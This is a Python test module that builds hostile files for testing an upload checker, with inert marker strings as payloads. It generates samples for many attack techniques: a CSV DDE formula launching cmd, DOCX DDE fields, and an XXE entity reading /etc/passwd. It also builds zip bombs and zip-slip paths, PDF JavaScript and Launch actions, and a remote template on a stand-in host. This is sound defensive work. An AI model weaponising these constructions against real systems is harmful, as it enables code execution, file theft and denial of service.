# SPDX-License-Identifier: EUPL-1.2
# SPDX-FileCopyrightText: 2026 Deelwijs
# ruff: noqa: E501 - what is broken in a file reads best on one line
"""Hostile files, made while testing: the repository holds none. Each carries MERK where it must not come through."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)  # fmt: skip

from deelwijs.casus.keuring.soort import EICAR

MERK = b"MERKTEKEN-7fQz"
TEKST = MERK.decode()
SPACE = "http://schemas.openxmlformats.org"
WORD = f"{SPACE}/wordprocessingml/2006/main"
REL = f"{SPACE}/officeDocument/2006/relationships"


def image(kind: str = "JPEG", size: tuple[int, int] = (40, 30), mode: str = "RGB", **named: object) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind, **named)  # type: ignore[arg-type]
    return out.getvalue()


def gps() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = exif[0x013B] = exif[0x9286] = TEKST
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 5.0, 1.0), 3: "E", 4: (4.0, 5.0, 1.0), 29: TEKST})
    return exif


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claims(wide: int, high: int, packed: bytes) -> bytes:
    """A PNG that says how large it is, with whatever content."""
    header = struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", packed) + png_chunk(b"IEND", b"")


def name(**items: object) -> DictionaryObject:
    """A dictionary of a PDF; text that begins with / is a name."""
    found = DictionaryObject()
    for key, value in items.items():
        if isinstance(value, str):
            value = NameObject(value) if value.startswith("/") else TextStringObject(value)
        found[NameObject(f"/{key}")] = value  # type: ignore[assignment]
    return found


def stream(data: bytes, **items: object) -> StreamObject:
    found = StreamObject()
    found._data = data
    found.update(name(**items))
    return found


def pdf(
    *, catalog: dict[str, object] | None = None, page: dict[str, object] | None = None, annot: dict[str, object] | None = None,
    xobject: StreamObject | None = None, secret: str | None = None, pages: int = 1,
) -> bytes:  # fmt: skip
    writer = PdfWriter()
    for _ in range(pages):
        sheet = writer.add_blank_page(200, 200)
    sheet.update(name(**(page or {})))
    writer.root_object.update(name(**(catalog or {})))
    if annot is not None:
        rect = ArrayObject([FloatObject(0), FloatObject(0), FloatObject(9), FloatObject(9)])
        note = writer._add_object(name(**{"Type": "/Annot", "Subtype": "/Link", "Rect": rect, **annot}))
        sheet[NameObject("/Annots")] = ArrayObject([note])
    if xobject is not None:
        sheet[NameObject("/Resources")] = name(XObject=name(X=writer._add_object(xobject)))
    if secret is not None:
        writer.encrypt(user_password="", owner_password=secret)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def action(kind: str, **items: object) -> DictionaryObject:
    return name(S=kind, **items)


def docx(
    parts: dict[str, bytes] | None = None,
    *,
    body: str = "",
    main: str = "",
    rels: str = "",
    compress: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    kind = main or "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    content = {
        "[Content_Types].xml": f'<Types xmlns="{SPACE}/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{kind}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{SPACE}/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{REL}/officeDocument" Target="word/document.xml"/>'
        f'<Relationship Id="r2" Type="{SPACE}/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
        "</Relationships>",
        "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>Gewoon.</w:t></w:r></w:p>{body}</w:body></w:document>',
        "docProps/core.xml": f'<c xmlns="x"><creator>{TEKST}</creator></c>',
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{SPACE}/package/2006/relationships">{rels}</Relationships>',
    }
    whole = {path: text.encode() for path, text in content.items()} | (parts or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as pack:
        for path, data in whole.items():
            pack.writestr(path, data)
    return out.getvalue()


def rel(kind: str, target: str, external: bool = True) -> str:
    return f'<Relationship Id="r9" Type="{REL}/{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if external else ""}/>'


def field(code: str) -> str:
    return f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>"


def raw_zip(entries: list[tuple[zipfile.ZipInfo | str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as pack:
        for info, data in entries:
            pack.writestr(info, data)
    return out.getvalue()


def link() -> bytes:
    """A document with a symbolic link in it."""
    info = zipfile.ZipInfo("word/media/a.png")
    info.external_attr = 0o120777 << 16
    base = zipfile.ZipFile(io.BytesIO(docx()))
    return raw_zip([(one, base.read(one)) for one in base.namelist()] + [(info, b"/etc/passwd")])


def lying_zip() -> bytes:
    """A zip bomb that says that it is small."""
    packed = bytearray(docx({"word/styles.xml": bytes(60_000_000)}))
    size = struct.pack("<I", 60_000_000)
    while (at := packed.find(size)) >= 0:
        packed[at : at + 4] = struct.pack("<I", 100)
    return bytes(packed)


def overlapping_zip() -> bytes:
    """Many entries over one piece of data: 42 kB that becomes more than 4 GB."""
    piece = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = piece.compress(bytes(20_000_000)) + piece.flush()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(data), 20_000_000, 1, 0) + b"a" + data
    central = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, 0, len(data), 20_000_000, 1, 0, 0, 0, 0, 0, 0)
        + b"a"
        for _ in range(300)
    )
    return local + central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 300, 300, len(central), len(local), 0)


def hostile() -> Iterator[tuple[str, str, bytes]]:
    """(what it is, the name under which it comes, content)."""
    eicar = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + EICAR + b"!$H+H*"
    yield "eicar", "brief.txt", eicar
    yield (
        "eicar in docx",
        "brief.docx",
        docx({"word/comments.xml": b"<a>" + eicar + b"</a>"}, compress=zipfile.ZIP_STORED),
    )
    for ending in ("exe", "txt", "pdf"):
        yield f"program as {ending}", f"a.{ending}", b"MZ\x90\x00\x03" + MERK
    yield "elf", "a.txt", b"\x7fELF\x02\x01\x01" + MERK
    yield "shell", "a.txt", b"#!/bin/sh\necho " + MERK
    for ending in ("svg", "txt", "png"):
        yield (
            f"svg as {ending}",
            f"a.{ending}",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>' + MERK + b"</script></svg>",
        )
    for ending in ("html", "txt", "jpg"):
        yield f"html as {ending}", f"a.{ending}", b"<!doctype html><script>" + MERK + b"</script>"
    yield "html in utf-16", "a.txt", "<script>merk</script>".encode("utf-16")
    yield "rtf", "a.txt", b"{\\rtf1\\object " + MERK + b"}"
    yield "table with formula", "a.csv", b"=cmd|'/c calc'!A1," + MERK
    yield "gif", "a.gif", image("GIF", mode="P") + MERK
    yield "tiff", "a.tif", image("TIFF")
    yield "old word", "a.doc", bytes.fromhex("d0cf11e0a1b11ae1") + MERK * 50
    yield "reading order", "a.txt", "normaal \u202egnp.exe\u202c tekst".encode()
    yield "nul in text", "a.txt", b"tekst\x00" + MERK
    yield "escape codes", "a.txt", b"\x1b]0;" + MERK + b"\x07"
    # Images.
    yield "jpeg with place", "a.jpg", image(exif=gps())
    yield "png with place", "a.png", image("PNG", exif=gps())
    yield "jpeg with comment", "a.jpg", image(comment=MERK)
    yield "jpeg with profile", "a.jpg", image(icc_profile=MERK * 20)
    yield "png with profile", "a.png", image("PNG", icc_profile=MERK * 20)
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Author", TEKST)
    texts.add_itxt("XML:com.adobe.xmp", f"<x>{TEKST}</x>")
    yield "png with text", "a.png", image("PNG", pnginfo=texts)
    yield "jpeg with xmp", "a.jpg", image(xmp=b"<x>" + MERK + b"</x>")
    yield "jpeg with zip behind", "a.jpg", image() + docx() + MERK
    yield "png with html behind", "a.png", image("PNG") + b"<script>" + MERK
    yield "jpeg with pdf behind", "a.pdf", image() + pdf() + MERK
    yield "png with thumbnail chunk", "a.png", image("PNG")[:-12] + png_chunk(b"prVt", MERK) + png_chunk(b"IEND", b"")
    yield "pixel flood", "a.png", png_claims(50_000, 50_000, zlib.compress(bytes(1000)))
    yield "pixel flood with content", "a.png", png_claims(30_000, 30_000, zlib.compress(bytes(9_000_000), 9))
    yield "just within pixels", "a.png", png_claims(7_071, 7_071, zlib.compress(bytes(7_071 * (7_071 * 3 + 1)), 9))
    flood = bytearray(image())
    at = flood.find(b"\xff\xc0")
    flood[at + 5 : at + 9] = b"\xff\xff\xff\xff"
    yield "jpeg flood", "a.jpg", bytes(flood)
    yield "cut jpeg", "a.jpg", image(size=(400, 400))[:-300]
    yield "cut png", "a.png", image("PNG")[:60]
    bomb = zlib.compress(bytes(60_000_000), 9)
    yield (
        "text bomb in png",
        "a.png",
        image("PNG")[:-12] + png_chunk(b"zTXt", b"Author\0\0" + bomb) + png_chunk(b"IEND", b""),
    )
    yield "profile bomb in png", "a.png", image("PNG")[:33] + png_chunk(b"iCCP", b"x\0\0" + bomb) + image("PNG")[33:]
    # PDF.
    script = action("/JavaScript", JS=TEKST)
    names = name(JavaScript=name(Names=ArrayObject([TextStringObject("a"), script])))
    attached = name(Type="/Filespec", F=TEKST, EF=name(F=stream(MERK * 9, Type="/EmbeddedFile")))
    yield "pdf script at opening", "a.pdf", pdf(catalog={"OpenAction": script})
    yield "pdf script by name", "a.pdf", pdf(catalog={"Names": names})
    yield "pdf script in a stream", "a.pdf", pdf(catalog={"OpenAction": action("/JavaScript", JS=stream(MERK))})
    yield "pdf script on page", "a.pdf", pdf(page={"AA": name(O=script)})
    yield "pdf script on link", "a.pdf", pdf(annot={"A": script})
    yield "pdf script after link", "a.pdf", pdf(annot={"A": action("/URI", URI="https://voorbeeld.nl", Next=script)})
    yield (
        "pdf script on field",
        "a.pdf",
        pdf(annot={"Subtype": "/Widget", "FT": "/Tx", "T": TEKST, "AA": name(K=script)}),
    )
    yield "pdf starts a program", "a.pdf", pdf(catalog={"OpenAction": action("/Launch", F=TEKST)})
    yield "pdf starts from link", "a.pdf", pdf(annot={"A": action("/Launch", Win=name(F=TEKST))})
    yield "pdf opens a file", "a.pdf", pdf(annot={"A": action("/URI", URI=f"file:///etc/{TEKST}")})
    yield "pdf runs script by address", "a.pdf", pdf(annot={"A": action("/URI", URI=f"javascript:{TEKST}")})
    yield "pdf goes to another file", "a.pdf", pdf(annot={"A": action("/GoToR", F=f"\\\\server\\{TEKST}")})
    yield "pdf sends a form", "a.pdf", pdf(annot={"A": action("/SubmitForm", F=f"https://{TEKST}")})
    yield (
        "pdf with file",
        "a.pdf",
        pdf(catalog={"Names": name(EmbeddedFiles=name(Names=ArrayObject([TextStringObject("a"), attached])))}),
    )
    yield "pdf with file on page", "a.pdf", pdf(annot={"Subtype": "/FileAttachment", "FS": attached})
    yield "pdf with file beside", "a.pdf", pdf(page={"AF": ArrayObject([attached])})
    yield "pdf with film", "a.pdf", pdf(annot={"Subtype": "/RichMedia", "RichMediaContent": name(Assets=attached)})
    yield "pdf with xfa", "a.pdf", pdf(catalog={"AcroForm": name(XFA=stream(MERK))})
    yield (
        "pdf with properties",
        "a.pdf",
        pdf(catalog={"Metadata": stream(MERK, Type="/Metadata"), "PieceInfo": name(A=TEKST)}),
    )
    yield "pdf with page properties", "a.pdf", pdf(page={"Metadata": stream(MERK), "PieceInfo": name(A=TEKST)})
    photo = {"Subtype": "/Image", "Width": NumberObject(40), "Height": NumberObject(30)}
    yield (
        "pdf with place in photo",
        "a.pdf",
        pdf(xobject=stream(image(exif=gps(), comment=MERK), Filter="/DCTDecode", **photo)),
    )
    packed = ArrayObject([NameObject("/FlateDecode"), NameObject("/DCTDecode")])
    yield (
        "pdf with packed photo",
        "a.pdf",
        pdf(xobject=stream(zlib.compress(image(exif=gps())), Filter=packed, **photo)),
    )
    huge = photo | {"Width": NumberObject(90_000), "Height": NumberObject(90_000)}
    yield "pdf with pixel flood", "a.pdf", pdf(xobject=stream(b"x", **huge))
    yield "pdf with image elsewhere", "a.pdf", pdf(xobject=stream(b"", F=TEKST, FFilter="/FlateDecode", **photo))
    yield "pdf with postscript", "a.pdf", pdf(xobject=stream(MERK, Subtype="/PS"))
    yield (
        "pdf bomb",
        "a.pdf",
        pdf(xobject=stream(zlib.compress(bytes(200_000_000), 9), Subtype="/Form", Filter="/FlateDecode")),
    )
    twice = ArrayObject([NameObject("/FlateDecode")] * 2)
    nested = zlib.compress(zlib.compress(bytes(200_000_000), 9), 9)
    yield "pdf bomb in bomb", "a.pdf", pdf(xobject=stream(nested, Subtype="/Form", Filter=twice))
    yield "pdf with lock", "a.pdf", pdf(secret="x")
    yield "pdf with html in front", "a.pdf", b"<script>" + MERK + b"</script>\n" + pdf()
    yield "pdf with zip behind", "a.pdf", pdf() + docx({"word/x.xml": MERK})
    yield "pdf that is none", "a.pdf", b"%PDF-1.7\n" + MERK * 100
    yield (
        "pdf with itself as parent",
        "a.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>",
    )
    deep = b"[" * 60_000 + b"]" * 60_000
    yield (
        "pdf too deep",
        "a.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj" + deep + b"endobj\ntrailer<</Root 1 0 R>>",
    )
    yield (
        "pdf that says it has many pages",
        "a.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 999999999>>endobj\ntrailer<</Root 1 0 R>>",
    )
    # Documents.
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield "docx with macro", "a.docx", docx({"word/vbaProject.bin": MERK})
    yield "docx that says macro", "a.docx", docx(main=macro)
    yield "docx with macro by another name", "a.docx", docx({"word/media/plaatje.png": b"\xd0\xcf" + MERK})
    yield "docx with activex", "a.docx", docx({"word/activeX/activeX1.xml": b"<a/>"})
    yield "docx with file", "a.docx", docx({"word/embeddings/oleObject1.bin": MERK})
    yield "docx with sheet", "a.docx", docx({"word/embeddings/Blad.xlsx": MERK})
    yield "docx with template elsewhere", "a.docx", docx(rels=rel("attachedTemplate", "https://kwaad.example/a.dotm"))
    yield "docx with picture elsewhere", "a.docx", docx(rels=rel("image", "https://kwaad.example/a.png"))
    yield "docx with frame elsewhere", "a.docx", docx(rels=rel("frame", "\\\\kwaad\\deel"))
    yield "docx with object elsewhere", "a.docx", docx(rels=rel("oleObject", "file:///c:/a"))
    yield "docx with a link", "a.docx", docx(rels=rel("hyperlink", f"file:///c:/{TEKST}"))
    yield "docx with html", "a.docx", docx({"word/afchunk.htm": MERK}, rels=rel("aFChunk", "afchunk.htm", False))
    yield "docx with dde", "a.docx", docx(body=field(f'DDEAUTO c:\\\\a "{TEKST}"'))
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("D", "DE", f"AUTO {TEKST}"))
    yield "docx with dde in pieces", "a.docx", docx(body=f"<w:p>{pieces}</w:p>")
    yield "docx with dde in one", "a.docx", docx(body=f'<w:fldSimple w:instr="DDE {TEKST}"/>')
    yield "docx with text elsewhere", "a.docx", docx(body=field(f"INCLUDETEXT \\\\{TEKST}"))
    yield "docx with object", "a.docx", docx(body="<w:object/>")
    laughs = (
        b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">'
        + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a;" * 10) for n in range(9))
        + b"]><a>&a8;</a>"
    )
    yield "docx with growing text", "a.docx", docx({"word/document.xml": laughs})
    yield "docx with growing text in utf-16", "a.docx", docx({"word/styles.xml": laughs.decode().encode("utf-16")})
    yield (
        "docx that reads a file",
        "a.docx",
        docx({"word/styles.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
    )
    yield "docx with place in photo", "a.docx", docx({"word/media/a.jpg": image(exif=gps(), comment=MERK)})
    yield "docx with vector picture", "a.docx", docx({"word/media/a.svg": b"<svg><script/></svg>"})
    yield (
        "docx with maker",
        "a.docx",
        docx({"docProps/app.xml": MERK, "customXml/item1.xml": MERK, "word/people.xml": MERK}),
    )
    yield "docx with something behind", "a.docx", docx() + MERK
    yield "docx bomb", "a.docx", docx({"word/styles.xml": b"<a>" + bytes(60_000_000)})
    yield (
        "docx bomb of many",
        "a.docx",
        docx({f"word/s{n}.xml": b"<a>" + b" " * 100_000 + b"</a>" for n in range(1500)}),
    )
    yield "docx that lies about its size", "a.docx", lying_zip()
    yield "42 kB that becomes 6 GB", "a.docx", overlapping_zip()
    yield "zip in zip", "a.docx", docx({"word/media/a.zip": docx({"word/x.bin": bytes(9_000_000)})})
    yield "only a zip", "a.zip", raw_zip([("a.txt", MERK)])
    yield "path upward", "a.docx", docx({"../../etc/cron.d/x": MERK})
    yield "path from the root", "a.docx", docx({"/etc/passwd": MERK})
    yield "path of windows", "a.docx", docx({"word\\..\\..\\x.xml": MERK})
    yield "symbolic link", "a.docx", link()
    yield "twice the same part", "a.docx", docx({"WORD/document.xml": b"<a>" + MERK + b"</a>"})
    yield "cut zip", "a.docx", docx()[:-40]
    yield "sheet as docx", "a.docx", raw_zip([("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", MERK)])
